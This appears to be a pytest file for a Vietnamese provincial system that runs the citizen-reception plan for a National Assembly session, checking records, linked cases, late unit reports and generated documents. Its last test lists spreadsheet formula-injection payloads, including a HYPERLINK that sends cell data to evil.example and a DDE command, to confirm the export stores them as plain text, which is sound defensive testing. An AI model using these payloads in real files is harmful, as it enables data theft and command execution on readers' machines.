"""The National Assembly session plan of letter 930/UBND-TD run for the whole 2021 window on the
test clock: 20 units, daily register entries (some empty), a 12-person group whose complaint opens
one linked case, a central-office event resolved by bringing the citizens home, a unit that reports
late — and the report and its spreadsheet checked against the records."""

from __future__ import annotations

import io
from datetime import date, timedelta
from typing import Any

import pytest
from docx import Document as Docx
from openpyxl import load_workbook

from app.clock import FrozenClock, local_date
from app.errors import FormValidationError
from app.persistence import queries
from app.procedures.na_session_reception import register, reports
from app.services import cases, documents, integrity, tasks, timers
from app.services.runtime import Runtime
from app.services.users import authenticate_password
from tests import cases as payloads
from tests.conftest import vn

UNITS = [{"code": f"U{i:02d}", "name": f"Đơn vị {i:02d}", "kind": "department" if i <= 12 else "district",
          "organisation": f"unit-{i:02d}"} for i in range(1, 21)]
WINDOW_DAYS = ["2021-03-24", "2021-03-25", "2021-03-26", "2021-03-29", "2021-03-30", "2021-03-31",
               "2021-04-01", "2021-04-02", "2021-04-05", "2021-04-06", "2021-04-07"]  # Mon–Fri, no holiday


def person(name: str, address: str = "Xã Ia Mơ, huyện Chư Prông") -> dict[str, Any]:
    return {"full_name": name, "address": address}


# What Mẫu 03/TCD asks with each way of handling: the body and the letter, or the ground of a refusal.
HANDLING_PARTS: dict[str, dict[str, Any]] = {
    "guided": {"guided_to": {"body": "UBND huyện Chư Prông", "letter_number": "12/HD-TCD"}},
    "transferred": {"transferred_to": {"body": "Sở Tài nguyên và Môi trường", "letter_number": "15/CĐ-TCD"}},
    "refused": {"refusal": {"ground": "threatening"}},
}


def record(kind: str = "petition", people: int = 1, handling: str = "explained", **extra: Any) -> dict[str, Any]:
    return {"persons": [person("Lê Văn C")], "people_count": people, "address": "Phường Hoa Lư, TP Pleiku",
            "content": "Phản ánh về tiến độ cấp giấy chứng nhận quyền sử dụng đất.", "kind": kind,
            "handling": handling, **HANDLING_PARTS.get(handling, {}), **extra}


def dossier(people: int = 12) -> dict[str, Any]:
    """What the officer checked at the desk: a signed petition, the appointment of representatives, the copy."""
    checked = {"petition_signature": "signed", "representation_document": people >= 5, "first_decision_copy": True}
    return {**checked, "all_complainants_signed": True} if people >= 2 else checked


def group_complaint() -> dict[str, Any]:
    """12 people, 3 representatives: a second-level complaint within provincial competence."""
    petition = payloads.petition()
    return record(kind="complaint", people=12, handling="open_case", second_level=True, within_competence=True,
                  persons=[person("Rơ Châm H"), person("Ksor Y"), person("Nguyễn Thị K")],
                  representatives=[person("Rơ Châm H"), person("Ksor Y"), person("Nguyễn Thị K")],
                  content="Khiếu nại quyết định giải quyết lần đầu về giá đất bồi thường dự án thủy lợi.",
                  complaint={"first_decision": {**petition["first_decision"], "issued_on": "2021-03-01",
                                                "received_on": "2021-03-10"},
                             "respondent": petition["respondent"], "reasons": petition["reasons"],
                             "request": petition["request"], "dossier": dossier(12)})


# What reception records on each day (empty days included).
DAY_RECORDS: dict[str, list[dict[str, Any]]] = {
    "2021-03-24": [],
    "2021-03-25": [group_complaint(), record()],
    "2021-03-26": [record("denunciation", handling="received")],
    "2021-03-29": [],
    "2021-03-30": [record("complaint", people=6, handling="guided", bypassing=True,
                          representatives=[person("Đinh Văn M"), person("Siu N")])],
    "2021-03-31": [record("complaint", handling="explained", protracted=True)],
    "2021-04-01": [],
    "2021-04-02": [record(), record("petition", handling="transferred")],
    "2021-04-05": [],
    "2021-04-06": [record("denunciation", handling="guided")],
    "2021-04-07": [],
}


class Plan:
    def __init__(self, rt: Runtime, clock: FrozenClock) -> None:
        self.rt, self.clock = rt, clock
        clock.set(vn(2021, 3, 22, 9))
        start = {"session_name": "Kỳ họp thứ 11, Quốc hội khóa XIV", "window_start": "2021-03-24",
                 "window_end": "2021-04-07", "reception_start": "2021-03-24", "reception_end": "2021-04-07",
                 "receive_on_weekends": False,
                 "reception_office": "Trụ sở Tiếp công dân tỉnh Gia Lai", "units": UNITS,
                 "documents": [{"number": "930/UBND-TD", "issued_on": "2021-03-22", "issuer": "UBND tỉnh Gia Lai",
                                "title": "Về việc tiếp công dân phục vụ kỳ họp thứ 11, Quốc hội khóa XIV"},
                               {"number": "64/KH-BDN", "issued_on": "2021-03-10", "title": "Kế hoạch của Ban Dân nguyện"}]}
        self.id = cases.start_case(rt, self.user("inspectorate"), "na_session_reception", start).instance.id

    def user(self, name: str) -> Any:
        return authenticate_password(self.rt, name, "demo")

    def nights_until(self, day: date) -> None:
        current = local_date(self.clock.now())
        while current < day:
            current += timedelta(days=1)
            self.clock.set(vn(current.year, current.month, current.day) + timedelta(minutes=30))
            timers.run_worker(self.rt, "night-worker", until_idle=True)
        self.clock.set(vn(day.year, day.month, day.day, 9))

    def ready(self, bpmn_id: str) -> list[Any]:
        with self.rt.db.reading() as session:
            return [t for t in queries.instance_tasks(session, self.id) if t.bpmn_id == bpmn_id]

    def act(self, day: date, bpmn_id: str, user: str, data: dict[str, Any], organisation: str | None = None) -> None:
        self.nights_until(day)
        rows = [t for t in self.ready(bpmn_id) if organisation is None or t.organisation == organisation]
        assert rows, f"{bpmn_id} ({organisation}) is not waiting on {day}"
        tasks.complete_task(self.rt, self.user(user), rows[0].id, data)


def unit_report(day: str) -> dict[str, Any]:
    return {"unit_report": {"reported_on": day, "cases_reviewed": 4, "group_cases": 1, "complex_cases": 0,
                            "bypassing_cases": 0, "protracted_cases": 1, "dialogues_held": 2,
                            "duty_roster": "Lãnh đạo trực tiếp công dân hằng ngày", "report_number": "12/BC"}}


def test_the_2021_session_plan_runs_its_whole_window(rt: Runtime, clock: FrozenClock) -> None:
    plan = Plan(rt, clock)
    assert len(plan.ready("report_unit")) == 20
    assert {t.organisation for t in plan.ready("report_unit")} == {u["organisation"] for u in UNITS}
    plan.act(date(2021, 3, 22), "draft_plan", "inspectorate", {"plan": {
        "number": "15/KH-TTr", "drafted_on": "2021-03-22", "purpose": "Bảo đảm an ninh trật tự trong kỳ họp",
        "coordination": "Công an tỉnh, Ban Tiếp công dân tỉnh", "group_case_handling": "Lãnh đạo tiếp ngay",
        "reporting": "Báo cáo hằng ngày"}})
    plan.act(date(2021, 3, 22), "approve_plan", "resolver",
             {"plan_approval": {"approved": True, "decided_on": "2021-03-22"}})
    plan.act(date(2021, 3, 23), "assign_staff", "inspectorate", {"staffing": {
        "assigned_on": "2021-03-23", "officers": [{"full_name": "Trần Văn T", "agency": "Thanh tra tỉnh"}]}})
    for unit in UNITS[:19]:
        plan.act(date(2021, 3, 23), "report_unit", "unit_head", unit_report("2021-03-23"), unit["organisation"])

    for day in WINDOW_DAYS:
        d = date.fromisoformat(day)
        plan.nights_until(d)
        assert [t.due_on for t in plan.ready("record_reception_day")] == [d]  # opened on its own day, at midnight
        if day == "2021-03-26":
            plan.act(d, "report_unit", "unit_head", unit_report(day), "unit-20")  # late: flagged on 25/03
        if day == "2021-03-30":
            cases.deliver_message(rt, plan.user("inspectorate"), plan.id, "central_coordination", {
                "reported_by": "central_reception_board", "reported_at": "2021-03-30T08:30:00+07:00", "channel": "phone",
                "location": "Trụ sở Tiếp công dân Trung ương, số 1 Ngô Thì Nhậm, Hà Nội", "people_count": 8,
                "home_area": "Huyện Chư Prông", "content": "Đề nghị giải quyết bồi thường đất rẫy."})
            plan.act(d, "alert_competent_unit", "inspectorate", {"alert": {
                "unit_code": "U15", "alerted_at": "2021-03-30T09:00:00+07:00", "instructions": "Cử cán bộ ra Hà Nội"}})
            assert [t.organisation for t in plan.ready("bring_citizens_back")] == ["unit-15"]
            plan.act(d, "bring_citizens_back", "unit_head", {"central_outcome": {
                "officers_sent": ["Phó Chủ tịch UBND huyện"], "met_on": "2021-03-30", "result": "returned",
                "returned_on": "2021-03-31", "dialogue_on": "2021-04-06", "report": "Công dân đã về địa phương"}},
                "unit-15")
        plan.act(d, "record_reception_day", "reception",
                 {"reception_day": {"officers_on_duty": ["Trần Văn T"], "records": DAY_RECORDS[day]}})

    plan.nights_until(date(2021, 4, 8))
    assert len(plan.ready("consolidated_report")) == 1
    report = reports.session_report(rt, plan.user("inspectorate"), plan.id)
    all_records = [r for day in WINDOW_DAYS for r in DAY_RECORDS[day]]
    assert report.receptions == len(all_records) == 8
    assert report.people == sum(r["people_count"] for r in all_records) == 12 + 6 + 6
    assert report.by_kind == {"complaint": 3, "denunciation": 2, "petition": 3}
    assert (report.group_cases, report.bypassing, report.protracted) == (2, 1, 1)
    assert [(d.day.isoformat(), d.receptions) for d in report.days] == [(day, len(DAY_RECORDS[day])) for day in WINDOW_DAYS]
    assert report.units_late == ["Đơn vị 20"] and report.units_reported == 20
    assert len(report.central_events) == 1 and report.central_events[0]["outcome"]["result"] == "returned"

    # the group's complaint opened one case, linked both ways, which goes through the procedure
    assert len(report.cases_opened) == 1
    opened = report.cases_opened[0]
    group = register.list_records(rt, plan.user("auditor"), plan.id, day=date(2021, 3, 25), q="Rơ Châm", kind=None)
    assert [r.case_instance_id for r in group] == [opened["case_instance_id"]]
    view = cases.get_case(rt, plan.user("resolver"), opened["case_instance_id"])
    assert view.data["reception_record"]["id"] == group[0].id
    assert (view.data["complainant_count"], len(view.data["representatives"])) == (12, 3)
    assert [t.bpmn_id for t in view.tasks] == ["review_acceptance"]
    tasks.complete_task(rt, plan.user("resolver"), view.tasks[0].id, payloads.acceptance(issued_on="2021-04-08"))
    assert [t.bpmn_id for t in cases.get_case(rt, plan.user("resolver"), opened["case_instance_id"]).tasks] == [
        "assign_verification"]

    book = load_workbook(io.BytesIO(reports.report_xlsx(report)))
    summary = {row[0]: row[1] for row in book["Tổng hợp"].iter_rows(min_row=7, values_only=True) if row[0]}
    assert (summary["Lượt tiếp"], summary["Số người"], summary["Hồ sơ khiếu nại lần hai đã mở"]) == (8, 24, 1)
    assert summary["Đơn vị chậm báo cáo"] == 1 and summary["Công dân đã được đưa về địa phương"] == 1
    assert book["Theo ngày"].max_row == 1 + len(WINDOW_DAYS)

    plan.act(date(2021, 4, 9), "consolidated_report", "inspectorate", {"final_report": {
        "number": "20/BC-TTr", "issued_on": "2021-04-09", "assessment": "Tình hình ổn định"}})
    assert cases.get_case(rt, plan.user("auditor"), plan.id).instance.status == "completed"

    # the plan's papers: the plan when approved, the register extract and the final report at the end,
    # numbered in the reception board's register (the typed «20/BC-TTr» is read-only and ignored)
    papers = documents.case_documents(rt, plan.user("auditor"), plan.id)
    assert [(p.document.kind, p.document.number_text, p.document.issued_on.isoformat()) for p in papers] == [
        ("plan", "1/KH-BTCD", "2021-03-22"), ("register_extract", "1/TrS-BTCD", "2021-04-09"),
        ("final_report", "1/BC-BTCD", "2021-04-09")]
    assert cases.get_case(rt, plan.user("auditor"), plan.id).data["final_report"]["number"] == "1/BC-BTCD"
    extract = _docx_text(documents.document_file(rt, plan.user("auditor"), papers[1].document.id).content)
    assert all(r["persons"][0]["full_name"] in extract for r in all_records)
    assert "Số: 1/TrS-BTCD" in extract and "{{" not in extract
    final = _docx_text(documents.document_file(rt, plan.user("auditor"), papers[2].document.id).content)
    assert "Số: 1/BC-BTCD" in final and "ngày 09 tháng 4 năm 2021" in final and "{{" not in final
    # the whole window (records, the cases they opened, late units, papers) leaves every row as its trail says
    assert integrity.verify_all(rt).problems == []


def _docx_text(content: bytes) -> str:
    doc = Docx(io.BytesIO(content))
    cells = [p.text for t in doc.tables for r in t.rows for c in r.cells for p in c.paragraphs]
    return "\n".join([*cells, *(p.text for p in doc.paragraphs)])


def test_a_record_that_cannot_open_a_case_is_refused_and_nothing_is_kept(rt: Runtime, clock: FrozenClock) -> None:
    plan = Plan(rt, clock)
    with pytest.raises(FormValidationError) as ahead:  # 22/03: the 24th has not come yet
        register.add_record(rt, plan.user("reception"), plan.id, "2021-03-24", record())
    assert list(ahead.value.fields) == ["received_on"]
    clock.set(vn(2021, 3, 24, 9))
    wrong = group_complaint()
    wrong["within_competence"] = False
    with pytest.raises(FormValidationError):
        register.add_record(rt, plan.user("reception"), plan.id, "2021-03-24", wrong)
    with pytest.raises(FormValidationError) as outside:
        register.add_record(rt, plan.user("reception"), plan.id, "2021-04-20", record())
    assert "received_on" in outside.value.fields
    assert register.list_records(rt, plan.user("auditor"), plan.id) == []
    added = register.add_record(rt, plan.user("reception"), plan.id, "2021-03-24", group_complaint())
    assert added.sequence == 1 and added.case_instance_id is not None and added.group_case


def test_a_daily_entry_whose_complaint_the_petition_form_refuses_is_refused_on_that_records_field(
        rt: Runtime, clock: FrozenClock) -> None:
    plan = Plan(rt, clock)
    plan.act(date(2021, 3, 22), "draft_plan", "inspectorate", {"plan": {
        "number": "15/KH-TTr", "drafted_on": "2021-03-22", "purpose": "Bảo đảm an ninh trật tự trong kỳ họp",
        "coordination": "Công an tỉnh", "group_case_handling": "Lãnh đạo tiếp ngay", "reporting": "Hằng ngày"}})
    plan.act(date(2021, 3, 22), "approve_plan", "resolver",
             {"plan_approval": {"approved": True, "decided_on": "2021-03-22"}})
    plan.act(date(2021, 3, 22), "assign_staff", "inspectorate", {"staffing": {
        "assigned_on": "2021-03-22", "officers": [{"full_name": "Trần Văn T", "agency": "Thanh tra tỉnh"}]}})
    plan.nights_until(date(2021, 3, 24))
    wrong = group_complaint()
    wrong["representatives"][0]["id_number"] = "12345"  # the register takes it; the petition's form does not
    (day,) = plan.ready("record_reception_day")
    with pytest.raises(FormValidationError) as refused:
        tasks.complete_task(rt, plan.user("reception"), day.id,
                            {"reception_day": {"officers_on_duty": ["Trần Văn T"], "records": [record(), wrong]}})
    assert list(refused.value.fields) == ["reception_day.records.1.representatives.0.id_number"]
    assert register.list_records(rt, plan.user("auditor"), plan.id) == [] and plan.ready("record_reception_day")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)"]


def test_text_people_typed_reaches_the_spreadsheet_as_text_never_as_a_formula(rt: Runtime, clock: FrozenClock) -> None:
    clock.set(vn(2021, 3, 22, 9))
    inspectorate = authenticate_password(rt, "inspectorate", "demo")
    start = {"session_name": FORMULAS[0], "window_start": "2021-03-24", "window_end": "2021-03-25",
             "reception_start": "2021-03-24", "reception_end": "2021-03-25",
             "receive_on_weekends": False, "reception_office": FORMULAS[1], "units": UNITS[:1],
             "documents": [{"number": "930/UBND-TD", "issued_on": "2021-03-22", "title": FORMULAS[2]}]}
    plan = cases.start_case(rt, inspectorate, "na_session_reception", start).instance.id
    clock.set(vn(2021, 3, 24, 9))
    for name in FORMULAS:
        register.add_record(rt, inspectorate, plan, "2021-03-24", record(persons=[person(name)]))
    book = load_workbook(io.BytesIO(reports.report_xlsx(reports.session_report(rt, inspectorate, plan))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
    assert {c.value for c in cells} >= {FORMULAS[0], *FORMULAS[:1]}
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.value, c.data_type) for c in cells]
